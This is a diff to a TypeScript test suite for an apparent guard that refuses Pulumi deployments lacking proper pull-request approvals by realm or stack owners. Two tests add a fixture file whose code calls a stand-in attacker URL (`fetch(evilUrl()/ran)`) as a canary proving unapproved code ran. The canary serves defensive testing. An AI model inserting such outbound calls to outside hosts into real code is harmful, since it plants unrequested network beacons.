@@ -131,7 +131,11 @@ const attacks: Readonly<Record<string, Attack>> = {
       { ...cemAlone, files: access(deployer, ["company: Small", "company: [Small"]) },
       { by: "dan", approvers: ["ben"], files: access(deployer) },
     ],
-    refused: [earlier(`${gains}${byBen}`)],
+    refused: [
+      earlier(
+        `${gains}${byBen}; the files of (commit) cannot be read, so each that led to (commit) counts; where its approval cannot be had any more, take it out by one pull request, and bring it in by another that is approved`,
+      ),
+    ],
   },
   "an approval and a push after it, and somebody who has it opened by another": {
     proposals: () => [
@@ -228,7 +232,8 @@ test("an approved change that is merged by hand, with another one in the merge",
 test("the program, the pipelines, the policy pack and an exception, beside a harmless change", async () => {
   const files = {
     ...access(harmless),
-    "index.ts": "export {};\n",
+    // It would say so the moment that it runs.
+    "index.ts": `void fetch("${evilUrl()}/ran");\nexport {};\n`,
     "pipelines/bitbucket-pipelines.yml": "pipelines: {}\n",
     "policy/pack.ts": "export {};\n",
     "exceptions.yaml": `${exceptionsText}  - { rule: lifetimes, on: realm, owner: ana, reason: Later, until: ${later} }\n`,
@@ -248,19 +253,28 @@ test("the program, the pipelines, the policy pack and an exception, beside a har
   await isRefused([`exception from lifetimes for realm changes from nothing to until ${later}${byOwners}`, `the program changes: index.ts, pipelines/bitbucket-pipelines.yml, policy/pack.ts${byOwners}`], id); // prettier-ignore
 });
 
-test("a stack under another name, which is in the same realm", async () => {
-  const text = company.good[stackFile] ?? "";
+const unknown = (why: string, by: string) =>
+  `nobody knows what stack second holds: ${why}: the pull request that brought (commit) has to be approved by two whom ${by} names as its owners, and who wrote nothing of it; what is merged has to be just what they approved of: ana@small.example, ben@small.example`;
+
+test.each([
+  ["the same realm", ""],
+  ["another realm", "-elsewhere"],
+])("a stack under another name, which is in %s", async (_, elsewhere) => {
+  const { realm } = company.small.world;
+  const text = withSettings(company.good[stackFile] ?? "", { "keycloak.realm": `${realm}${elsewhere}` });
+  // It would say so the moment that it runs.
+  const program = { "index.ts": `void fetch("${evilUrl()}/ran");\nexport {};\n` };
   const last = await mergeAll([
-    { ...cemAlone, files: { ...access(deployer), "stacks/Pulumi.second.yaml": text, files: stackFile } },
+    {
+      ...cemAlone,
+      files: { ...access(deployer), ...program, "stacks/Pulumi.second.yaml": text, files: stackFile },
+    },
   ]);
-  expect((await company.small.run("pulumi", "stack", "init", "second")).code).toBe(0);
-  await isRefused(
-    [
-      `nobody knows what stack second holds: realm ${company.small.world.realm} is there already, and this stack has not made it: the pull request that brought (commit) has to be approved by two whom the realm names as its owners, and who wrote nothing of it; what is merged has to be just what they approved of: ana@small.example, ben@small.example`,
-    ],
-    last,
-    "second",
-  );
+  expect((await company.small.run("pulumi", "stack", "select", "second", "--create")).code).toBe(0);
+  const why = elsewhere
+    ? unknown("stack main was brought up for workspace acme, and its file is gone", "stack main")
+    : unknown(`realm ${realm} is there already, and this stack has not made it`, "the realm");
+  await isRefused([why], last, "second");
 });
 
 test("plain pulumi up", async () => {
